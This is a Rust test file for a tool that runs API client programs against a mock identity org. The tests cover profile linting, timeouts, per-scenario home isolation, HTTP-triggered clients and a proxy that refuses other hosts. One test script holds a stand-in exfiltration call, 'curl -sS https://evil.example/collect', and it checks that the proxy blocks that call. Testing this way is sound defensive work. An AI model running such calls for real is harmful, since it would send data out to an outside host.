//! Clients that cannot be changed, by their profiles.

use std::path::Path;

use crate::{
    files::path,
    has,
    ran::{Ran, run},
};

fn example(name: &str) -> String {
    format!("exec:{}", path(&format!("../examples/exec/{name}/profile.toml")))
}

/// Runs scenarios with a profile made here.
fn with_profile(profile: &str, arguments: &[&str]) -> Ran {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("profile.toml");
    std::fs::write(&file, profile).unwrap();
    run(&[&["test", "--client", &format!("exec:{}", file.display())], arguments].concat())
}

/// A profile whose one trigger is a shell script that stands in the profile.
fn shell(script: &str, more: &str) -> String {
    format!(
        "{more}\n[client]\nname = \"script\"\ncapabilities = [\"auth.client_secret_basic\"]\n[env]\nORG = \"{{org_url}}\"\n\
         [trigger.list_users]\nrun = [\"sh\", \"-c\", '''{script}''']\nobserve.items = \"lines\"\n"
    )
}

#[test]
fn a_script_with_the_host_in_its_code_reaches_the_scenarios_org() {
    if !(has("bash") && has("curl") && has("jq")) {
        return;
    }
    let client = example("curl");
    let Ran { code, out, err } =
        run(&["test", "--tags", "@PAGE-001 or @PAGE-005 or @ASTRAY-003", "--client", &client]);
    assert!(out.contains("pass       PAGE-001") && out.contains("pass       PAGE-005"), "{out}{err}");
    // Its sed knows one link in a line only: what a real script does with both in one line is found.
    assert!(out.contains("FAIL       ASTRAY-003"), "{out}");
    assert!(
        out.contains("https://acme.okta.com/api/v1/users"),
        "the org knows itself by the client's name: {out}"
    );
    assert_eq!(code, Some(1), "{out}");
}

#[test]
fn other_hosts_are_refused_and_noted() {
    if !has("curl") {
        return;
    }
    let script = "curl -sS https://evil.example/collect; curl -sS http://acme.okta.com/api/v1/users; exit 1";
    let Ran { code, out, err } =
        with_profile(&shell(script, "host = \"acme.okta.com\""), &["--scenario", "PAGE-001"]);
    assert_eq!(code, Some(1), "{out}{err}");
    assert!(out.contains("the proxy refused CONNECT evil.example:443"), "{out}");
    assert!(out.contains("the proxy refused GET http://acme.okta.com/api/v1/users"), "{out}");
}

#[test]
fn a_java_program_trusts_the_runs_ca() {
    if !(has("java") && has("javac") && has("keytool")) {
        return;
    }
    let Ran { code, out, err } = run(&["test", "--scenario", "PAGE-001", "--client", &example("java")]);
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("pass       PAGE-001"), "{out}");
}

#[test]
fn profiles_are_linted() {
    if !(has("bash") && has("curl") && has("jq")) {
        return;
    }
    let Ran { code, out, err } = run(&["client", "lint", &example("curl")]);
    assert_eq!(code, Some(0), "{out}{err}");
    let Ran { code, err, .. } = run(&["client", "lint", "exec:nowhere.toml"]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("nowhere.toml: No such file"), "{err}");
    let Ran { code, err, .. } = with_profile("[client]\nname = \"x\"\ncapabilites = []\n", &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("line 3") && err.contains("did you mean `capabilities`?"), "{err}");
    let Ran { code, out, .. } = run(&["schema", "client-profile"]);
    assert!(code == Some(0) && out.contains("\"trigger\""), "{out}");
}

#[test]
fn a_command_that_hangs_ends_in_time_with_all_that_it_started() {
    let folder = tempfile::tempdir().unwrap();
    let mark = folder.path().join("pid");
    let script = format!("sleep 300 & echo $! > {}; wait", mark.display());
    let Ran { code, out, err } =
        with_profile(&shell(&script, ""), &["--scenario", "PAGE-001", "--op-timeout", "2"]);
    assert_eq!(code, Some(3), "{out}{err}");
    assert!(out.contains("no reply to `list_all` within 2 s"), "{out}");
    let pid = std::fs::read_to_string(mark).unwrap();
    assert!(!is_running(pid.trim()), "the child is still there");
}

/// A child that stays in the background holds the pipes; nobody waits for it.
#[test]
fn a_child_that_stays_is_ended() {
    let folder = tempfile::tempdir().unwrap();
    let mark = folder.path().join("pid");
    let script = format!("sleep 300 & echo $! > {}; echo 00u1", mark.display());
    let Ran { code, out, err } = with_profile(&shell(&script, ""), &["--scenario", "PAGE-001"]);
    assert_eq!(code, Some(1), "{out}{err}");
    assert!(!is_running(std::fs::read_to_string(mark).unwrap().trim()), "the child is still there");
}

fn is_running(pid: &str) -> bool {
    let stat = std::fs::read_to_string(Path::new("/proc").join(pid).join("stat")).unwrap_or_default();
    // A zombie runs no more.
    !stat.is_empty() && !stat.contains(") Z ")
}

#[test]
fn what_a_client_has_nothing_for_is_told_apart() {
    let run = |more: &str| {
        let profile = shell("echo", "").replace("capabilities", &format!("{more}\ncapabilities"));
        with_profile(&profile, &["--scenario", "TOK-001"])
    };
    let Ran { code, out, .. } = run("");
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("the profile has no trigger for `get_token`"), "{out}");
    let Ran { code, out, .. } = run("absent = [\"get_token\"]");
    assert_eq!(code, Some(4), "nothing was tested: {out}");
    assert!(out.contains("the client has nothing for `get_token`"), "{out}");
}

#[test]
fn each_scenario_has_a_home_of_its_own_and_no_settings_of_others() {
    let script = "test ! -e $HOME/cache && touch $HOME/cache && test -z \"$OKTA_CLIENT_TOKEN$HTTPS_PROXY\" && \
                  test \"$(stat -c %a $HOME/.acme/config.json)\" = 600 && cat $HOME/.acme/config.json >&2; exit 7";
    let profile = shell(script, "isolate = [\"HOME\"]")
        + "[[file]]\npath = \"{tmp}/.acme/config.json\"\ncontent = '{\"org\": \"{org_url}\", \"key\": \"{private_key_pem}\"}'\n";
    let Ran { code, out, err } = with_profile(&profile, &["--tags", "@PAGE-001 or @PAGE-005", "--jobs", "1"]);
    assert_eq!(code, Some(1), "{out}{err}");
    assert!(out.matches(r#""key": ""}"#).count() >= 2, "both scenarios: {out}");
    assert!(out.contains("Exited(7)") && out.contains(r#"{"org": "https://127.0.0.1:"#), "{out}");
}

/// A client that stays: started once a scenario, told by HTTP, done when the org hears no more.
#[test]
fn a_client_that_stays_is_triggered_by_http() {
    if !has("python3") {
        return;
    }
    let server = "import http.server, os, ssl, urllib.request
class Sync(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer(200)
    def do_POST(self):
        self.answer(202)
        request = urllib.request.Request(os.environ['ORG'] + '/api/v1/users', headers={'Authorization': 'SSWS ' + os.environ['TOKEN']})
        try:
            urllib.request.urlopen(request)
        except urllib.error.HTTPError:
            pass
    def answer(self, status):
        self.send_response(status)
        self.send_header('Content-Length', '0')
        self.end_headers()
        self.wfile.flush()
http.server.HTTPServer(('127.0.0.1', int(os.environ['PORT'])), Sync).serve_forever()";
    let profile = format!(
        "[client]\nname = \"sync\"\ncapabilities = [\"auth.ssws\"]\n[env]\nORG = \"{{org_url}}\"\nTOKEN = \"{{api_token}}\"\n\
         PORT = \"{{port}}\"\n[start]\nrun = [\"python3\", \"-c\", '''{server}''']\nready = \"http://127.0.0.1:{{port}}/\"\n\
         [trigger.read_users]\nhttp = {{ url = \"http://127.0.0.1:{{port}}/sync\" }}\ndone = \"requests:1\"\n"
    );
    let Ran { code, out, err } = with_profile(&profile, &["--scenario", "SSWS-003"]);
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("4 passed"), "{out}");
}
